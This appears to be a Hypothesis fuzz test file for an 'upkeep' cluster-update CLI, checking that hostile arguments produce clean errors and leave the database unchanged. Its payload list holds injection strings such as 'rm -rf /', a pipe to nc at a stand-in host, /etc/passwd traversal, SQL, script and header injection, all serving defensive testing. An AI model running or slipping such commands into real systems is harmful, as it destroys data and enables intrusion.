"""Hostile command lines: arbitrary text where the CLI takes cluster names, versions, case ids,
dates and run ids. Every answer is exit 1 (one "error:" line) or 2 (usage), never a traceback, and
the database is byte-identical afterwards. Read-only commands may also answer 0.

Driven in-process through `upkeep.cli.main` (the console script's own error mapping), so a
Hypothesis example costs milliseconds. Inventory YAML is fuzzed in tests/unit/test_importer.py
(1,000 examples per property); release manifests, case ids and injection payloads in
test_hostile_inputs.py.
"""

from __future__ import annotations

import os
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from inventory.cases import EXTERNAL_ID, OWN_ID
from scheduling.versions import is_version
from tests.faults.cli import CliHome, FlowStarted, Outcome, cli_home, invoke
from tests.faults.conftest import SOAK

pytestmark = [pytest.mark.faults, pytest.mark.lab]

EXAMPLES = int(os.environ.get("UPKEEP_FUZZ_EXAMPLES") or (5000 if SOAK else 1000))
FUZZ = settings(
    max_examples=EXAMPLES,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
    derandomize=False,
)

# What attackers and accidents put in arguments: shell, paths, control characters, markup, lengths,
# and Unicode that looks like ASCII (Cyrillic а, fullwidth and Arabic-Indic digits, superscripts).
PAYLOADS = [
    "$(touch /tmp/upkeep-pwned)",
    "`touch /tmp/upkeep-pwned`",
    "a; touch /tmp/upkeep-pwned",
    "a && rm -rf /",
    "a | nc evil 1",
    "../../etc/passwd",
    "..",
    "/etc/passwd",
    "a\nb",
    "a\r\nBcc: evil@example.com",
    "a\x00b",
    "\x1b[31mred",
    "[red]markup[/red]",
    "{{ 7*7 }}",
    "{% raw %}",
    "<script>alert(1)</script>",
    "'; DROP TABLE cluster; --",
    "%s%s%s%n",
    "x" * 10_000,
    "аcme-c1",  # Cyrillic а
    "9.1٠.0",  # Arabic-Indic zero
    "９.１０.０",  # fullwidth digits
    "9.10.0\n",
    " 9.10.0",
    "9.10.0;id",
    "²",
    "update-²",
    "CASE-١٢",
    "CASE-1\n",
    "2026-13-45",
    "2026-11-23T25:00:00Z",
    "9999-12-31T23:59:59+14:00",
    "0001-01-01T00:00:00-23:59",
    "-1",
    "--help",
    "",
    " ",
    "\u202e",  # right-to-left override
    "\ufeff",
]


def hostile(known: list[str] | None = None) -> st.SearchStrategy[str]:
    parts = [st.text(max_size=200), st.sampled_from(PAYLOADS)]
    if known:
        parts.append(
            st.builds(lambda k, p: k + p, st.sampled_from(known), st.sampled_from([*PAYLOADS, "", "x"]))
        )
    return st.one_of(*parts)


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory, faults_lab: Any) -> Iterator[CliHome]:
    """A database holding the faults lab's inventory; nothing here ever connects to the lab."""
    with cli_home(tmp_path_factory.mktemp("clihome"), faults_lab.inventory_path) as home:
        home.checkpoint()
        yield home


@pytest.fixture
def no_flows(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """Starting an update is never the right answer to hostile input: make it loud. And `case` and
    `diagnostics` open (and migrate) the database on every call, ~50 ms: once is enough here."""
    import upkeep.database

    def refuse(*_args: Any, **_kwargs: Any) -> int:
        raise FlowStarted("a fuzzed command started an update flow")

    monkeypatch.setattr("upkeep.updates.run_product_update", refuse)
    opened: dict[str, Any] = {}
    real = upkeep.database.open_database

    def open_once(settings: Any) -> Any:
        url = settings.resolved_database_url()
        if url not in opened:
            opened[url] = real(settings)
        return opened[url]

    monkeypatch.setattr(upkeep.database, "open_database", open_once)
    yield
    for engine in opened.values():
        engine.dispose()


@pytest.fixture
def check(home: CliHome, no_flows: None) -> Callable[..., Outcome]:
    baseline = home.digest()

    def run(*args: str, read_only: bool = False) -> Outcome:
        result = invoke(*args)
        assert "Traceback" not in result.text, result.text[-3000:]
        allowed = (0, 1, 2) if read_only else (1, 2)
        assert result.code in allowed, f"exit {result.code} for {args!r}: {result.text[-2000:]}"
        if result.code == 1:
            assert "error:" in result.stderr, f"{args!r}: {result.text[-2000:]}"
        if result.code == 2:
            assert "Usage:" in result.text or "Error" in result.text, result.text[-2000:]
        assert home.digest() == baseline, f"{args!r} changed the database (exit {result.code})"
        return result

    return run


def positional(value: str) -> str:
    """A hostile value where the command takes a positional argument. One that starts with '-' is
    an option by definition (`--help` rightly answers 0), so those are left to the option forms."""
    assume(not value.startswith("-"))
    return value


def _clusters(lab: Any) -> list[str]:
    return list(dict.fromkeys(node["cluster"] for node in lab.status()["nodes"]))


def test_cluster_names(check: Callable[..., Outcome], faults_lab: Any, record: Any) -> None:
    known = _clusters(faults_lab)

    @FUZZ
    @given(name=hostile(known), command=st.integers(0, 6))
    def fuzz(name: str, command: int) -> None:
        assume(name not in known and f"acme/{name}" not in known)
        [
            lambda: check("update", positional(name), "--to", "9.10.0", "--dry-run"),
            lambda: check("update", positional(name), "--to", "9.10.0"),
            lambda: check("schedule", positional(name), "--to", "9.10.0"),
            lambda: check("request", positional(name), "--to", "9.10.0", "--source", "customer"),
            lambda: check("calendar", f"--customer={name}", "--now", "2026-11-23T00:00:00Z", read_only=True),
            lambda: check("diagnostics", "collect", f"--cluster={name}", "--case", "CASE-1"),
            lambda: check("case", "open", "--subject", "s", f"--cluster={name}"),
        ][command]()

    fuzz()
    record(
        "hostile input (CLI)",
        "cluster names: update, schedule, request, calendar, diagnostics, case",
        EXAMPLES,
    )


def test_versions(check: Callable[..., Outcome], faults_lab: Any, record: Any) -> None:
    cluster = _clusters(faults_lab)[0]
    sha = "a" * 64

    @FUZZ
    @given(version=hostile(["9.10.0", "9.8.0"]), command=st.integers(0, 5))
    def fuzz(version: str, command: int) -> None:
        assume(not is_version(version))
        [
            lambda: check("update", cluster, f"--to={version}", "--dry-run"),
            lambda: check("update", cluster, f"--to={version}"),
            lambda: check("schedule", cluster, f"--to={version}"),
            lambda: check("request", cluster, f"--to={version}", "--source", "customer", "--now"),
            lambda: check(
                "release",
                "add",
                positional(version),
                "--package=releases/x.tar.gz",
                f"--sha256={sha}",
                "--from=9.8.0",
            ),
            lambda: check("release", "status", positional(version), read_only=True),
        ][command]()

    fuzz()
    record("hostile input (CLI)", "versions: update, schedule, request, release add/status", EXAMPLES)


def _valid_case(text: str) -> bool:
    return bool(OWN_ID.fullmatch(text) or EXTERNAL_ID.fullmatch(text))


def test_case_ids(check: Callable[..., Outcome], faults_lab: Any, record: Any) -> None:
    cluster = _clusters(faults_lab)[0]

    @FUZZ
    @given(case=hostile(["CASE-1", "SUP-4711"]), command=st.integers(0, 6))
    def fuzz(case: str, command: int) -> None:
        assume(not _valid_case(case) and case.strip())
        [
            lambda: check("case", "show", positional(case), read_only=True),
            lambda: check("case", "escalate", positional(case), "--priority", "P1"),
            lambda: check("case", "close", positional(case)),
            lambda: check("update", cluster, "--to", "9.10.0", f"--case={case}"),
            lambda: check("request", cluster, "--to", "9.10.0", "--source", "support", f"--case={case}"),
            lambda: check("schedule", cluster, "--to", "9.10.0", f"--case={case}"),
            lambda: check("diagnostics", "collect", "--cluster", cluster, f"--case={case}"),
        ][command]()

    fuzz()
    record("hostile input (CLI)", "case ids: case, update/request/schedule --case, diagnostics", EXAMPLES)


def test_dates(check: Callable[..., Outcome], record: Any) -> None:
    @FUZZ
    @given(when=hostile(["2026-11-23", "2026-11-23T08:00:00Z"]), command=st.integers(0, 4))
    def fuzz(when: str, command: int) -> None:
        [
            lambda: check("defer", "update-1", f"--to={when}"),
            lambda: check("calendar", f"--now={when}", read_only=True),
            lambda: check(
                "diagnostics", "collect", "--cluster=no-such-cluster", "--case=CASE-1", f"--since={when}"
            ),
            lambda: check(
                "diagnostics", "collect", "--cluster=no-such-cluster", "--case=CASE-1", f"--until={when}"
            ),
            lambda: check(
                "release", "add", "9.11.0", "--package=p", "--sha256=x", "--from=9.8.0", f"--deadline={when}"
            ),
        ][command]()

    fuzz()
    record(
        "hostile input (CLI)",
        "dates: defer --to, calendar --now, diagnostics --since/--until, --deadline",
        EXAMPLES,
    )


def test_run_ids_and_update_refs(check: Callable[..., Outcome], record: Any) -> None:
    @FUZZ
    @given(ref=st.one_of(hostile(["1", "update-1", "42"]), st.integers().map(str)), command=st.integers(0, 8))
    def fuzz(ref: str, command: int) -> None:
        [
            lambda: check("show", positional(ref)),
            lambda: check("resume", positional(ref)),
            lambda: check("pause", positional(ref)),
            lambda: check("cancel", positional(ref)),
            lambda: check("approve", positional(ref)),
            lambda: check("cancel-update", positional(ref)),
            lambda: check("defer", positional(ref), "--to", "2030-01-01"),
            lambda: check("runs", f"--limit={ref}", read_only=True),
            lambda: check("notices", "send", f"--limit={ref}", read_only=True),
        ][command]()

    fuzz()
    record(
        "hostile input (CLI)",
        "run ids and update refs: show, resume, pause, cancel, approve, defer",
        EXAMPLES,
    )
